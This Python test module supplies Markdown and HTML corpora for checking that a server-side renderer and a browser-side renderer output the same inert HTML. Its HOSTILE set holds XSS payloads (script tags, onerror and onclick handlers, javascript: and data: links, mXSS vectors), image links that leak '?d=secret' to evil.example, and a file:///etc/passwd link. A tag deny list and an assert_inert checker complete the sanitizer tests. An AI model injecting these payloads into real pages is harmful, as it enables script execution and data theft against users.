"""Markdown corpora (hostile, well-formed, raw HTML) and checks that rendered HTML is inert.

Shared by tests/test_rendering.py (the server's renderer) and tests/browser/test_markdown.py
(the browser's, which must give the same HTML for each)."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "md_javascript": "[x](javascript:alert(1))",
    "md_javascript_mixed_case": "[x](JaVaScRiPt:alert(1))",
    "md_javascript_entity_tab": "[x](java&#x09;script:alert(1))",
    "md_javascript_entity_colon": "[x](javascript&colon;alert(1))",
    "md_javascript_zero_width": "[x](\u200bjavascript:alert(1))",
    "md_vbscript": "[x](vbscript:msgbox(1))",
    "md_data_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md_file_link": "[x](file:///etc/passwd)",
    "md_protocol_relative": "[x](//evil.example/a)",
    "md_relative": "[admin](/admin/) [top](#top) [up](../x)",
    "html_a_javascript": '<a href="javascript:alert(1)">x</a>',
    "html_a_onclick": '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "image_exfiltration": "![x](https://evil.example/leak?d=secret)",
    "image_no_alt": "![](https://evil.example/leak.png?d=secret)",
    "image_data_svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image_data_png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "image_reference": "![x][img]\n\n[img]: https://evil.example/leak.png?d=secret",
    "image_in_javascript_link": "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "image_in_link": "[![badge](https://evil.example/a.png)](https://ok.example)",
    "svg_onload": "<svg onload=alert(1)><circle r=10 /></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object_embed": '<object data="x.swf"></object><embed src="x.swf">',
    "style": '<style>body{display:none}</style><p style="color:red">x</p>',
    "form_input": '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
    "math_mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript_mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "html_block_with_markdown": "<div onclick=alert(1)>\n\n*x*\n\n</div>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;",
    "autolink_javascript": "<javascript:alert(1)>",
    "autolink_data": "<data:text/html,<script>alert(1)</script>>",
    "reference_javascript": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "fence_info_injection": '```js" onmouseover="alert(1)\nx\n```',
    "fence_info_class": "```python extra words\nx\n```",
    "link_title_injection": '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "link_quote_in_url": '[x](https://ok.example/"onmouseover="alert(1))',
    "table_cell_html": "| a |\n|:-:|\n| <b style=x onclick=alert(1)>b</b> |",
    "sse_fields": "\n\nevent: done\ndata: {}\n\nid: 9\nretry: 1\n",
    "sse_fields_in_code": '```\nevent: error\ndata: {"message": 1}\n\n```',
    "nul_and_cr": "a\0b\rc\r\n<script>\0alert(1)</script>\r\n\r\n[x](java\0script:alert(1))",
}


WELL_FORMED = {
    "table": "| Name | Menge | Preis |\n|:-----|:-----:|------:|\n"
    "| Äpfel | 3 | 1,20 € |\n| Öl | 1 | 4,99 € |",
    "lists": "- eins\n- zwei\n  - drei\n\n1. first\n2. second\n\nDann:\n\n3) x\n4) y",
    "code_fence": '```python\ndef grüße(name: str) -> str:\n    return f"Hallo {name} <3"\n```',
    "code_fence_cpp": "```C++\nint main() { return 0; }\n```",
    "code_inline": "Use `a < b && c` here.",
    "emphasis": "*kursiv*, **fett**, ~~durch~~ und ***beides***",
    "links": "[Docs](https://docs.example/path?q=1&r=2) und <https://auto.example> und <mail@example.com>"
    " und [mail](mailto:a@b.example)",
    "headings": "# Eins\n## Zwei\n### Drei\n#### Vier\n##### Fünf\n###### Sechs",
    "blockquote": "> Zitat mit *Betonung*\n>\n> zweiter Absatz",
    "hr_and_breaks": "erste Zeile\nzweite Zeile\n\n---\n\nnach der Linie",
    "umlauts_and_emoji": "Grüße aus Köln: äöüß ÄÖÜ 😀👍🏽 — «quotes» “typographic” 日本語",
    "unclosed_fence": "Here is code:\n\n```js\nconst a = 1;\nconst b = 2;",
    "unclosed_emphasis": "**bold that never ends and a [link that never",
    "code_span_after_bracket": "[foo `bar` baz`",
    "escapes": "\\*not emphasis\\* and 2 \\< 3 and a\\\nbreak",
    "indented_code": "    indented code\n    second line",
    "empty_links": "[leer]() und ![Bild]() und [ref][r]\n\n[r]: <>",
    "image_description": "![a `b` &amp; \\[c\\] *d*](https://i.example/p.png)",
}


# HTML straight to the sanitizer step, as if the parser had let it through: both sides
# must reduce it to the same allowlisted markup.
RAW_HTML = {
    "handlers_and_style": '<p onclick="alert(1)" style="color:red" id="x" class="y">x</p>',
    "a_javascript": '<a href="javascript:alert(1)">x</a>',
    "a_data": '<a href="data:text/html,x">x</a>',
    "a_https_without_slashes": '<a href="https:evil.example">x</a> <a href=" https://ok.example">y</a>',
    "a_relative_with_extras": '<a href="/relative" title="t" rel="opener" target="_self"'
    ' class="image-link">x</a>',
    "a_https": '<a href="https://ok.example/?a=1&amp;b=2" onclick="x" class="evil">ok</a>',
    "code_classes": '<pre><code class="language-python evil">x</code></pre>'
    '<code class="language-js">y</code>',
    "table_style": '<table><thead><tr><th style="text-align:right" class="align-right">a</th></tr></thead>'
    '<tbody><tr><td class="x">b</td></tr></tbody></table>',
    "ol_start": '<ol start="3" type="a" reversed><li value="9">x</li></ol>',
    "img": "<img src=x onerror=alert(1)>ok",
    "script": "<script>alert(1)</script>ok",
    "unknown_tags": "<div><span>x</span><b>y</b><u>z</u></div>",
    "comment": "<!-- c --><p>x</p>",
}


ALLOWED_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
FORBIDDEN_MARKUP = (
    "<script",
    "<img",
    "<svg",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "<form",
    "<input",
    "<math",
)
LINK_REL = "noopener noreferrer nofollow"


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.structure: list[tuple[str, object]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.structure.append((tag, sorted(attrs, key=lambda attr: attr[0])))

    def handle_endtag(self, tag: str) -> None:
        self.structure.append(("/" + tag, None))

    def handle_data(self, data: str) -> None:
        self.structure.append(("#text", data))


def _parse(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Each start tag with its attributes."""
    return _parse(html).elements


def structure(html: str) -> list[tuple[str, object]]:
    """Tags, sorted attributes and text, in order: HTML compared regardless of attribute order."""
    return _parse(html).structure


def assert_inert(html: str) -> None:
    lowered = html.lower()
    for markup in FORBIDDEN_MARKUP:
        assert markup not in lowered, markup
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"style", "src", "srcset", "action", "formaction", "id", "name"}, (tag, name)
            if name == "href":
                assert urlsplit(value or "").scheme.lower() in {"http", "https", "mailto"}, value
                assert value.lower().startswith(("http://", "https://", "mailto:")), value
        if tag == "a":
            assert attrs.get("rel") == LINK_REL, attrs
            assert attrs.get("target") == "_blank", attrs
